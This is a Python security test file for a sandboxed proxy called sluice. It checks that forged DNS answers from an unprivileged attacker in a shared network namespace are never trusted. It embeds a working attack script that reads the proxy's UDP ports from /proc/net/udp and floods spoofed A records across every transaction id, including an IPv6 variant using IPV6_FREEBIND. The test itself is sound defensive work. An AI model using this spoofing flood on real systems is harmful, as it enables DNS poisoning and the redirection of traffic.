#!/usr/bin/env python3
"""Forged DNS answers from inside the sandbox (issue 8 A; DESIGN.md
"Resolving upstream names safely").

In sidecar mode the sandbox shares sluice's network namespace. Its resolver
here is 127.0.0.11 (what Docker's embedded DNS uses), which any uid may
bind. An unprivileged attacker (uid 65533) inside that namespace reads
sluice's DNS socket ports from /proc/net/udp and floods them with answers
from 127.0.0.11 on a port other than 53, for every transaction id, that
point the upstream's name at a listener it runs itself (198.18.X.66,
added to lo) while requests keep re-resolving the name (TTL 1 s, reused
for sluice's 5 s minimum; the real resolver answers after 0.5 s). Nothing
may ever reach the forged address, and neither the kernel's upstream set
nor the audit log may show it. The same attack runs without kernel rules
(netpolicy off), where only the resolver's own checks stand, and with an
IPv6 resolver on the upstream side, whose address the attacker sends from
with IPV6_FREEBIND.

A resolver that truncates every UDP answer (TC) is asked again over TCP.

  sbx: sluice, clients, the attacker, DNS 127.0.0.11:53  --veth--  up:
       fakeup 198.18.X.2:8080, (IPv6 case) DNS [2001:2:0:X::53]:53
"""

import json
import os
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "lib"))

import sluicetest as st  # noqa: E402
from sluicetest import policy as pol  # noqa: E402
from sluicetest.http import build_request  # noqa: E402

RESOLVER = "127.0.0.11"
UPSTREAM_NAME = "up.test"
PORT = 8080
ATTACKER_UID = 65533
SLUICE_USER = "daemon"
PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") \
    else sys.executable

# The attacker: a listener on the forged address, and a flood of forged
# A answers at every UDP socket of sluice's uid that /proc/net/udp shows.
ATTACK = r"""
import os, socket, struct, sys, threading, time
sluice_uid, resolver, name, forged, port, dur, here = (
    int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4],
    int(sys.argv[5]), float(sys.argv[6]), sys.argv[7])
v6 = ":" in resolver
assert os.getuid() != 0 and os.getuid() != sluice_uid
lst = socket.socket()
lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
lst.bind((forged, port))
lst.listen(64)
def serve():
    while True:
        c, peer = lst.accept()
        print("accept %s" % peer[0], flush=True)
        c.close()
threading.Thread(target=serve, daemon=True).start()

qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
tmpl = bytearray(struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + qname +
                 struct.pack("!HH", 1, 1) +
                 struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) +
                 socket.inet_aton(forged))
s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET,
                  socket.SOCK_DGRAM)
if v6:
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND: any uid
# The resolver's address (on lo, or not ours at all), a port other than 53.
s.bind((resolver, 0))
assert s.getsockname()[1] != 53

def hexaddr(h):
    b = b"".join(struct.pack("<I", int(h[i:i + 8], 16))
                 for i in range(0, len(h), 8))
    return socket.inet_ntop(socket.AF_INET6 if v6 else socket.AF_INET, b)

def targets():
    out = set()
    with open("/proc/net/udp6" if v6 else "/proc/net/udp") as f:
        next(f)
        for line in f:
            fl = line.split()
            if int(fl[7]) != sluice_uid:
                continue
            la, lp = fl[1].split(":")
            ip = hexaddr(la)
            if ip in ("0.0.0.0", "::"):
                ip = here  # an unbound socket: any local address
            out.add((ip, int(lp, 16)))
    return out

print("ready", flush=True)
tried, sent, seen, end = 0, 0, set(), time.time() + dur
while time.time() < end:
    tg = targets()
    if not tg:
        time.sleep(0.002)
        continue
    seen |= tg
    for qid in range(0, 65536, 1):
        tmpl[0], tmpl[1] = qid >> 8, qid & 0xff
        for t in tg:
            tried += 1
            try:
                s.sendto(tmpl, t)
                sent += 1
            except OSError:
                pass  # EPERM: the kernel rules dropped it
        if qid % 2048 == 2047:
            fresh = targets()
            if fresh - tg:
                break
print("stats tried=%d sent=%d sockets=%d" % (tried, sent, len(seen)),
      flush=True)
"""


class Attacker(st.Proc):
    def __init__(self, h, resolver, here, forged, sluice_uid, dur):
        argv = st.ns_exec(h.sbx, [
            "setpriv", "--reuid=%d" % ATTACKER_UID,
            "--regid=%d" % ATTACKER_UID, "--clear-groups", "--inh-caps=-all",
            PY, "-c", ATTACK, str(sluice_uid), resolver, UPSTREAM_NAME,
            forged, str(PORT), str(dur), here])
        super().__init__(argv, "attacker", h.tmp)
        if not st.wait_until(lambda: "ready" in self.stdout() or
                             not self.alive(), 10):
            raise RuntimeError("attacker did not start: %s" % self.stderr())
        if not self.alive() and "ready" not in self.stdout():
            raise RuntimeError("attacker failed: %s" % self.stderr())

    def stdout(self):
        try:
            with open(self.out_path) as f:
                return f.read()
        except FileNotFoundError:
            return ""

    def accepts(self):
        return [l for l in self.stdout().splitlines()
                if l.startswith("accept")]

    def stats(self):
        for l in self.stdout().splitlines():
            if l.startswith("stats "):
                return dict(kv.split("=") for kv in l.split()[1:])
        return None


def sluice_uid():
    import pwd
    return pwd.getpwnam(SLUICE_USER).pw_uid


class Base(st.ProxyTestCase):
    MODE = "sidecar"
    DNS = {}
    V6 = False  # the resolver on the upstream side's IPv6 address

    @classmethod
    def build(cls):
        h, t = cls.h, cls.h.topo
        cls.forged = t.v4(66)
        # The attacker's own address, on lo of the shared namespace.
        t.sbx.ip("addr", "add", cls.forged + "/32", "dev", "lo")
        cls.up = h.fakeup("up", ["%s:%d" % (t.v4(2), PORT)])
        records = {UPSTREAM_NAME: {"A": [t.v4(2)]}}
        if cls.V6:
            cls.resolver, cls.here = t.v6(0x53), t.v6(1)
            t.up.ip("addr", "add", cls.resolver + "/64", "dev", t.up_if,
                    "nodad")
            cls.dns = st.DnsServer(h.up, cls.resolver, records, **cls.DNS)
        else:
            cls.resolver, cls.here = RESOLVER, "127.0.0.1"
            cls.dns = st.DnsServer(h.sbx, RESOLVER, records, **cls.DNS)
        doc = pol.policy(os.path.join(h.tmp, "p"), h.key_file,
                         [pol.forward("fwd", "127.0.0.1:3128")],
                         [pol.route("model", [UPSTREAM_NAME],
                                    "http://%s:%d" % (UPSTREAM_NAME, PORT),
                                    allow_plaintext=True)],
                         [cls.resolver])
        doc["user"] = SLUICE_USER
        doc["netpolicy"] = {"mode": cls.MODE, "table": "sluicedns",
                            "allow_loopback": True,
                            "resolvers": [cls.resolver], "log_group": 9,
                            "flush_on_exit": True}
        cls.audit_path = doc["audit"]["path"]
        cls.sl = h.sluice("main", doc)
        cls.token = h.token("model")

    def request(self, connect=False):
        """One POST, or a CONNECT (always a new upstream connection, so
        it needs the name resolved once the cached answer expired),
        through the forward listener; the status (0: none)."""
        hostport = "%s:%d" % (UPSTREAM_NAME, PORT)
        if connect:
            req = build_request(
                "CONNECT", hostport, host=hostport,
                headers=["Proxy-Authorization: Bearer " + self.token])
        else:
            req = build_request(
                "POST", "http://%s/v1/messages" % hostport, host=hostport,
                headers=["Proxy-Authorization: Bearer " + self.token],
                body=b"{}")
        try:
            with self.h.raw(3128, timeout=8) as c:
                return c.request(req, timeout=8,
                                 method="CONNECT" if connect else None).status
        except Exception:
            return 0

    def audit_text(self):
        try:
            with open(self.audit_path) as f:
                return f.read()
        except FileNotFoundError:
            return ""

    def upstream_set(self):
        p = st.run(st.ns_exec(self.h.sbx, [
            "nft", "list", "set", "inet", "sluicedns", "upstream4"]),
            check=False)
        return p.stdout


class TestForgery(Base):
    TAG = "dnsforge"
    X = 45
    # TTL 1 (sluice keeps it 5 s); the real answer comes after 0.5 s.
    DNS = {"ttl": 1, "delay": 0.5}
    DURATION = 24

    def test_forged_answers_never_used(self):
        mark = self.up.log.mark()
        atk = Attacker(self.h, self.resolver, self.here, self.forged,
                       sluice_uid(), self.DURATION)
        statuses = []
        stop = time.monotonic() + self.DURATION - 2
        set_seen = []

        def watch_set():
            while time.monotonic() < stop:
                if self.MODE == "sidecar":
                    set_seen.append(self.upstream_set())
                time.sleep(0.25)
        w = threading.Thread(target=watch_set, daemon=True)
        w.start()
        while time.monotonic() < stop:
            statuses.append(self.request(connect=True))
            time.sleep(0.2)
        w.join()
        atk.wait(self.DURATION + 10)
        stats = atk.stats()
        print("\n  attack: %s, %d requests, %d DNS queries" % (
            stats, len(statuses), len(self.dns.queries)), file=sys.stderr)
        # Nothing reached the forged address; nothing recorded it.
        self.assertEqual(atk.accepts(), [], "a tunnel went to the forger")
        self.assertNotIn(self.forged, self.audit_text())
        for listing in set_seen:
            self.assertNotIn(self.forged, listing)
        # The attack really ran: it saw sluice's DNS sockets and fired.
        self.assertIsNotNone(stats, atk.stdout() + atk.stderr())
        self.assertGreater(int(stats["sockets"]), 0, stats)
        self.assertGreater(int(stats["tried"]), 65536, stats)
        if self.MODE == "sidecar":
            # The kernel rules refused every forged datagram at output.
            self.assertEqual(int(stats["sent"]), 0, stats)
        else:
            self.assertGreater(int(stats["sent"]), 65536, stats)
        # Several resolutions happened while it did.
        self.assertGreaterEqual(
            sum(1 for q in self.dns.queries if q == (UPSTREAM_NAME, 1)), 3,
            self.dns.queries)
        # And the requests went where the real answer points.
        ok = statuses.count(200)
        self.assertGreater(ok, len(statuses) // 2, statuses)
        self.assertGreaterEqual(len(self.up.log.since(mark, "accept")), ok)


class TestForgeryNoKernelRules(TestForgery):
    """The resolver alone: no kernel rule drops the forged datagrams."""
    TAG = "dnsforge0"
    X = 46
    MODE = "off"
    DURATION = 16


class TestForgeryV6(TestForgery):
    """An IPv6 resolver: IPV6_FREEBIND lets the attacker send from its
    address without owning it."""
    TAG = "dnsforge6"
    X = 48
    V6 = True
    DURATION = 16


class TestTcpFallback(Base):
    TAG = "dnstcp"
    X = 47
    DNS = {"truncate": True}

    def test_truncated_answer_retried_over_tcp(self):
        mark = self.up.log.mark()
        self.assertEqual(self.request(), 200, self.sl.stderr()[-2000:])
        self.assertIn((UPSTREAM_NAME, 1), self.dns.queries)
        self.assertIn((UPSTREAM_NAME, 1), self.dns.tcp_queries)
        self.assertEqual(len(self.up.log.since(mark, "request")), 1)

        def lines():
            return [json.loads(l) for l in self.audit_text().splitlines()
                    if '"http.request"' in l]
        got = st.wait_until(lines, 5)
        self.assertTrue(got and got[-1].get("decision") == "allow", got)


if __name__ == "__main__":
    st.main()
